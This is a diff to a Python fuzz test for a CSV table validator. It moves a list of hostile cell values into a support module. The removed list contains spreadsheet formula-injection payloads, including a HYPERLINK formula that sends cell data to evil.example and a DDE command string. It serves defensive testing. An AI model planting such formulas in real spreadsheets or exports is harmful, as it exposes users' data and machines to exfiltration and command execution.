@@ -11,23 +11,15 @@ from pathlib import Path
 from conftest import ROOT
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from support.fuzz import CELL, NASTY, PROBLEM_LINE
 
 from ctdash.schema import TABLE_BY_NAME, TABLES
 from ctdash.validate import Parsed, Problem, check_tables, parse_table, validate
 
-PROBLEM_LINE = re.compile(r"(?P<file>[^\n:]+):(?P<line>\d+): (?P<column>[^\n]+?): (?P<message>[^\n]+)")
 EXAMPLES = int(os.environ.get("CTDASH_FUZZ_EXAMPLES", "60"))  # raise for a deep run
 FUZZ = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 TABLE_NAMES = st.sampled_from([t.name for t in TABLES])
 
-# Text a hostile or careless contributor might put in a cell.
-NASTY = st.sampled_from([
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
-    "\tleading tab", "\rcarriage", "a\nb", 'say "hi"', '"', "\x00", "\u202e\u0645\u0631\u062d\u0628\u0627",
-    "\u0661\u0662\u0663", "1_000", "nan", "inf", "1e400", "-0", "9" * 40, "\ufeff", "\u200f", "ﷺ",
-    "أكثر من ٢٠٠ اجتماع", "ثلاثة وعشرون", "2017-02-30", "0000-00-00", "x" * 200_000, "", " ",
-])
-CELL = st.one_of(NASTY, st.text(max_size=40))
 
 
 def assert_problem_lines(problems: list[Problem], total_lines: int, name: str = "upload/x.csv") -> None:
